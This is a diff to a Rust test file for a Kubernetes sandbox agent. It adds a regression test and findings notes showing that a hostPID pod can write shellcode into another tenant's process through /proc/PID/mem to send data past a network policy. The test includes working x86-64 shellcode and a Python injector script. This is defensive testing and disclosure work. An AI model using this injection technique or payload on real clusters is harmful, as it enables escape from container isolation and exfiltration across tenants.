@@ -11,7 +11,7 @@
 //! test's process is started the way containerd would start the container (root, the
 //! capabilities it would leave, no seccomp filter where it would load none).
 //!
-//! Found (each test fails against s43, 37001bb):
+//! Found (each test fails against s43, the merge 37001bb):
 //! - a `privileged: true` container naming hb's profile (its own `seccompProfile` or the
 //!   pod's) counted as confined, so the pod was admitted whatever it kept ("a pod whose
 //!   every container runs under the profile may keep `CAP_NET_RAW`"). containerd loads
@@ -40,11 +40,23 @@
 //!   `CAP_NET_ADMIN` made it and got its datagram to the far end (1 of 1, tried and not
 //!   kept: rtnetlink is `socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)`, which the profile
 //!   allows).
+//! - a pod with `hostPID: true` under hb's profile, root with the runtime's default
+//!   capabilities, wrote code through `/proc/PID/mem` (no `ptrace`, which the profile
+//!   refuses) where another tenant's root container in an unenforced namespace would
+//!   return from its `sleep`; that process then sent a datagram to the address the
+//!   pod's own UDP got `EPERM` for (1 of 1 on s43; the kernel lets a process write the
+//!   memory of one with the same uid and no more capabilities). An enforced pod with
+//!   `hostPID` is refused now whatever its profile (`api::spec_findings`, grounds
+//!   `unconfined`): 0.
+//!
+//! All four specs are refused by the admission policy of the kustomization
+//! (`deploy/kubernetes/sandbox-admission.yaml`: no privileged container, `drop` holding
+//! exactly `ALL`, adds at most `NET_BIND_SERVICE`, no `hostPID`): with it deployed, no
+//! pod both admitted escaped. They break the agent's own refusals, which the README
+//! presents as the enforcement (the admission policy as "better still"), as on a
+//! cluster without `ValidatingAdmissionPolicy` or an operator who left it out.
 //!
 //! Held (read, or tried on the unit level):
-//! - the admission policy (`deploy/kubernetes/sandbox-admission.yaml`) refuses both
-//!   specs already (privileged; `drop` must hold exactly `ALL`): the agent was the looser
-//!   of the two, no pod both admitted;
 //! - `localhostProfile` spellings that the kubelet resolves to the same file
 //!   (`./hb.json`, `x/../hb.json`), `type: localhost`: refused (not exactly the name),
 //!   fail closed;
@@ -316,6 +328,130 @@ fn a_pod_under_hbs_profile_adding_net_admin_is_refused() {
             "containers/main (adds NET_ADMIN)"
         ),
         "no net_raw_pod event for the pod adding NET_ADMIN: {:?}",
+        c.env.audit_records()
+    );
+}
+
+/// The capabilities containerd grants a container by default (`setpriv` spelling).
+const DEFAULT_CAPS: &str = "-all,+chown,+dac_override,+fsetid,+fowner,+mknod,+net_raw,+setgid,\
+                            +setuid,+setfcap,+setpcap,+net_bind_service,+sys_chroot,+kill,\
+                            +audit_write";
+
+/// x86-64 code that sends `hb-exfil:inject` in a UDP datagram to 10.0.0.1:PORT (the
+/// two bytes after `b798` placeholder: `0xb798`, patched) and exits 0.
+const SHELLCODE: &str = "b829000000bf02000000be0200000031d20f0589c7b82c000000488d3520000000ba0f00\
+                         00004531d24c8d052000000041b9100000000f05b83c00000031ff0f0568622d657866\
+                         696c3a696e6a6563740200b7980a0000010000000000000000";
+
+/// The injector: its own UDP datagram to `argv[3]` (the control: the pod's policy
+/// refuses it), then `argv[2]` (code, hex) written where process `argv[1]` will return
+/// from its system call (`/proc/PID/syscall`'s last field), through `/proc/PID/mem`: no
+/// `ptrace`, which hb's profile refuses.
+const PY_INJECT: &str = r#"
+import errno, socket, sys
+pid, code, dst, port = int(sys.argv[1]), bytes.fromhex(sys.argv[2]), sys.argv[3], int(sys.argv[4])
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hb-exfil:own", (dst, port))
+    print("own sent", flush=True)
+except OSError as e:
+    print("own", errno.errorcode.get(e.errno, e.errno), flush=True)
+pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
+with open(f"/proc/{pid}/mem", "r+b", buffering=0) as m:
+    m.seek(pc)
+    m.write(code)
+print("injected", flush=True)
+"#;
+
+/// A pod with `hostPID: true` sees the node's processes, and a root process of it with
+/// the runtime's default capabilities may write the memory of any other process running
+/// as root with no more capabilities (`ptrace_may_access`: same uid, capabilities a
+/// subset), such as another tenant's container in an unenforced namespace: its code
+/// then runs in that container's cgroup, under no policy. hb's profile refuses `ptrace`
+/// and `process_vm_writev`, not `/proc/PID/mem`. An enforced pod with `hostPID` is
+/// refused, whatever its profile.
+#[test]
+fn a_host_pid_pod_cannot_run_its_code_in_another_pods_process() {
+    let c = Cluster::start_configured("ar41-hostpid", 100, true);
+    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
+    let port = probe.addr.port();
+    let code = SHELLCODE.replace("0200b798", &format!("0200{port:04x}"));
+    // Another tenant's container: unenforced namespace `plain`, root, default capabilities.
+    let other = FakePod::new("other", "plain", NODE, None).with_security(serde_json::Value::Null);
+    c.api.pod(&other, false);
+    let other_dir = c.pod_dir(Driver::Cgroupfs, Qos::BestEffort, &other.uid);
+    let other_container = other_dir.join("c-victim");
+    fs::create_dir_all(&other_container).expect("the other pod's cgroup");
+    let caps_inh = format!("--inh-caps={DEFAULT_CAPS}");
+    let caps_bnd = format!("--bounding-set={DEFAULT_CAPS}");
+    let mut victim = std::process::Command::new("sh")
+        .args([
+            "-c",
+            &format!(
+                "echo $$ > {}/cgroup.procs && exec \"$@\"",
+                other_container.display()
+            ),
+            "sh",
+            "setpriv",
+            &caps_inh,
+            &caps_bnd,
+            "sleep",
+            "3",
+        ])
+        .spawn()
+        .expect("the other pod's process");
+    let pid = victim.id();
+    assert!(
+        wait_until(Duration::from_secs(5), || fs::read_to_string(format!(
+            "/proc/{pid}/comm"
+        ))
+        .is_ok_and(|c| c.trim() == "sleep")),
+        "the other pod's process did not start"
+    );
+
+    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
+    let mut pod = FakePod::new("hostpid", "agents", NODE, Some("web"));
+    pod.spec = json!({
+        "hostPID": true,
+        "securityContext": {"seccompProfile": hbs},
+        "containers": [{"name": "main"}],
+    });
+    let (_, container) = c.enrolled_container(&pod, Driver::Cgroupfs, Qos::Burstable, "web");
+    let pid_arg = pid.to_string();
+    let port_arg = port.to_string();
+    let (status, got) = run_in_cgroup(
+        &container,
+        &[
+            "setpriv",
+            &caps_inh,
+            &caps_bnd,
+            python(),
+            "-c",
+            PY_INJECT,
+            &pid_arg,
+            &code,
+            PRIVATE4,
+            &port_arg,
+        ],
+    );
+    let victim_status = victim.wait().expect("the other pod's process");
+    thread::sleep(Duration::from_millis(300));
+    let arrived = probe.received();
+    println!(
+        "figure: a hostPID pod under hb's profile with the default capabilities wrote its code \
+         into another (unenforced) pod's process: {arrived} datagram(s) reached the denied \
+         {PRIVATE4}; the pod's process ended with {status:?} having printed {got:?}; the other \
+         pod's process ended with {victim_status:?}"
+    );
+    assert_eq!(arrived, 0, "the injected code reached {PRIVATE4} ({got:?})");
+    assert_eq!(
+        status.signal(),
+        Some(libc::SIGKILL),
+        "the hostPID pod is killed ({got:?})\n{}",
+        c.log()
+    );
+    assert!(
+        reported(&c, "unconfined_pod", "hostpid", "hostPID"),
+        "no unconfined_pod event for the hostPID pod: {:?}",
         c.env.audit_records()
     );
 }
